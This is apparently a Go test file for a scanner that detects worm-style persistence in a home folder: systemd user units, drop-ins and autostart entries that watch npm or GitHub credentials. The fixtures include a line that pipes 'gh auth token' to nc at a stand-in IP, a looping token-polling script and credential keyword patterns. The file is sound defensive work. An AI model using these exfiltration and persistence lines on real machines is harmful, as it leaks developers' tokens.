package lookout

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

const units = ".config/systemd/user/"

// the watcher that was found, in short.
const watcher = "#!/bin/sh\nwhile sleep 60; do curl -sf -H \"Authorization: Bearer $T\" https://api.github.com/user || true; done\n"

// TestN02_WaitingProgramsAreFound puts one definition after the other into a home folder.
func TestN02_WaitingProgramsAreFound(t *testing.T) {
	for name, c := range map[string]struct {
		files map[string]string
		want  string
	}{
		"the worm's unit":      {map[string]string{units + "gh-token-monitor.service": "[Service]\nExecStart=/bin/true\n"}, KnownName},
		"an empty one":         {map[string]string{units + "gh-token-monitor.timer": ""}, KnownName},
		"another name":         {map[string]string{units + "update.service": "[Service]\nExecStart=%HOME%/.local/bin/gh-token-monitor.sh\n", ".local/bin/gh-token-monitor.sh": "true"}, KnownName},
		"in the script":        {map[string]string{units + "update.service": "[Service]\nExecStart=/bin/sh %h/u.sh\n", "u.sh": "exec gh_token_monitor --now"}, KnownName},
		"its command":          {map[string]string{units + "a.service": "[Service]\nExecStart=/bin/sh -c 'npm whoami || rm -rf x'\n"}, WatchesCredentials},
		"its variable":         {map[string]string{units + "a.service": "[Service]\nEnvironment=NPM_TOKEN=x\nExecStart=/usr/bin/x\n"}, WatchesCredentials},
		"its path":             {map[string]string{units + "a.path": "[Path]\nPathChanged=%h/.npmrc\n"}, WatchesCredentials},
		"a drop-in":            {map[string]string{units + "pipewire.service.d/x.conf": "[Service]\nExecStartPost=/bin/sh %h/.cache/x\n", ".cache/x": watcher}, WatchesCredentials},
		"data folder":          {map[string]string{".local/share/systemd/user/a.service": "[Service]\nExecStart=%h/w\n", "w": watcher}, WatchesCredentials},
		"${HOME}":              {map[string]string{units + "a.service": "[Service]\nExecStart=/bin/sh \"${HOME}/w\"\n", "w": watcher}, WatchesCredentials},
		"spaces":               {map[string]string{units + "a.service": "[Service]\nExecStart=/bin/sh '%h/my scripts/w.sh'\n", "my scripts/w.sh": watcher}, WatchesCredentials},
		"escaped space":        {map[string]string{units + "a.service": "[Service]\nExecStart=\"%h/my\\x20scripts/w.sh\"\n", "my scripts/w.sh": watcher}, WatchesCredentials},
		"sign before it":       {map[string]string{units + "a.service": "[Service]\nExecStart=-@%h/w watch\n", "w": watcher}, WatchesCredentials},
		"in its folder":        {map[string]string{units + "a.service": "[Service]\nWorkingDirectory=%h/srv\nExecStart=/usr/bin/node main.js\n", "srv/main.js": "const t = process.env.GITHUB_TOKEN"}, WatchesCredentials},
		"autostart":            {map[string]string{".config/autostart/a.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c \"gh auth token | nc 192.0.2.1 1\"\n"}, WatchesCredentials},
		"autostart by name":    {map[string]string{".config/autostart/a.desktop": "[Desktop Entry]\nExec=helper --quiet\n", ".local/bin/helper": watcher}, WatchesCredentials},
		"our name, not ours":   {map[string]string{".config/autostart/dev.sandglass.Sandglass.desktop": "[Desktop Entry]\nExec=%HOME%/x\n", "x": watcher}, WatchesCredentials},
		"ours and another":     {map[string]string{".config/autostart/a.desktop": "[Desktop Entry]\nExec=%HOME%/bin/sandglass-agent\nExec=%HOME%/x\n", "x": watcher, "bin/sandglass-agent": ""}, WatchesCredentials},
		"syncthing":            {map[string]string{units + "syncthing.service": "[Unit]\nDescription=Syncthing, keeps .npmrc too\n[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\nEnvironment=STNORESTART=1\n"}, ""},
		"dropbox":              {map[string]string{".config/autostart/dropbox.desktop": "[Desktop Entry]\nName=Dropbox\nExec=dropbox start -i\n", ".local/bin/dropbox": "#!/usr/bin/python3\nimport sys\n"}, ""},
		"comments":             {map[string]string{units + "a.service": "# NPM_TOKEN\n; _authToken\n[Service]\nExecStart=/bin/true\n"}, ""},
		"a development server": {map[string]string{units + "dev.service": "[Service]\nWorkingDirectory=%h/site\nExecStart=/usr/bin/npm start\n", "site/package.json": "{}", "site/start": "x"}, ""},
		"our own":              {map[string]string{".config/autostart/dev.sandglass.Sandglass.desktop": "[Desktop Entry]\nName=Sandglass\nExec=%HOME%/bin/sandglass-agent\nTryExec=%HOME%/bin/sandglass-agent\n", "bin/sandglass-agent": "_authToken"}, ""},
		"another ending":       {map[string]string{units + "a.service.bak": "NPM_TOKEN", ".config/autostart/x.txt": "NPM_TOKEN"}, ""},
		"too far in":           {map[string]string{units + "a.service": "[Service]\nExecStart=%h/w\n", "w": strings.Repeat("#", maxRead) + watcher}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			m := newMachine(t)
			for file, text := range c.files {
				m.write(file, text)
			}
			m.is(name, c.want)
		})
	}
}

func TestFoldersOfXDG(t *testing.T) {
	m := newMachine(t)
	m.vars["XDG_CONFIG_HOME"] = filepath.Join(m.home, "cfg")
	m.vars["XDG_DATA_HOME"] = "relative"
	m.write(units+"gh-token-monitor.service", "")
	m.is("elsewhere", "")
	m.write("cfg/systemd/user/gh-token-monitor.service", "")
	m.is("there", KnownName)
}

// TestNothingOutsideIsRead: links lead to no content outside the home folder, and pipes are not waited
// for.
func TestNothingOutsideIsRead(t *testing.T) {
	m, outside := newMachine(t), t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "w"), []byte(watcher), 0o600); err != nil {
		t.Fatal(err)
	}
	link := func(target, name string) {
		t.Helper()
		path := filepath.Join(m.home, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, path); err != nil {
			t.Fatal(err)
		}
	}
	link(filepath.Join(outside, "w"), units+"a.service")
	link(filepath.Join(outside, "w"), "w")
	link("/dev/null", units+"masked.service")
	link("loop.service", units+"loop.service")
	m.write(units+"b.service", "[Service]\nExecStart=%h/w\nExecStart="+outside+"/w\nExecStart=%h/../"+filepath.Base(outside)+"/w\nExecStart=%h/pipe\n")
	if err := syscall.Mkfifo(filepath.Join(m.home, "pipe"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(m.home, units, "pipe.service"), 0o600); err != nil {
		t.Fatal(err)
	}
	m.is("outside", "")
	link("/nowhere", units+"gh-token-monitor.service")
	m.is("a name needs no content", KnownName)
	m.write("dotfiles/c.service", "[Service]\nExecStart=/bin/sh %h/own\n")
	m.write("dotfiles/own", watcher)
	link(filepath.Join(m.home, "dotfiles", "c.service"), units+"c.service")
	link("dotfiles/own", "own")
	m.is("links within", WatchesCredentials+KnownName)
}

// TestHomeIsALink: as on machines whose home folders lie elsewhere.
func TestHomeIsALink(t *testing.T) {
	m := newMachine(t)
	m.write(units+"a.service", "[Service]\nExecStart=%h/w\n")
	m.write("w", watcher)
	home := filepath.Join(t.TempDir(), "home")
	if err := os.Symlink(m.home, home); err != nil {
		t.Fatal(err)
	}
	m.Lookout = New(Options{Home: home, Env: func(string) string { return "" }})
	m.is("by a link", WatchesCredentials)
}

func TestUnreadableFolderIsTold(t *testing.T) {
	m := newMachine(t)
	m.write(".config/autostart", "a file")
	m.write(units+"gh-token-monitor.service", "")
	signs, err := m.Signs(t.Context())
	if err == nil || len(signs) != 1 {
		t.Errorf("%v, %v", err, signs)
	}
}

// TestBounds: of very many definitions the first ones are looked at, and that is told; so are of very many files that
// one names.
func TestBounds(t *testing.T) {
	m := newMachine(t)
	text := "[Service]\n"
	for n := range 3000 {
		text += fmt.Sprintf("ExecStart=%%h/f%d\n", n)
	}
	m.write("f2999", watcher)
	m.write(units+"a.service", text)
	m.is("one that names many", "")
	for n := range maxEntries {
		m.write(fmt.Sprintf("%su%04d.service", units, n), "[Service]\nExecStart=/bin/true\n")
	}
	m.write(units+"zz.service", "NPM_TOKEN")
	if signs, err := m.Signs(t.Context()); err == nil || len(signs) != 0 {
		t.Errorf("%v, %v", err, signs)
	}
}
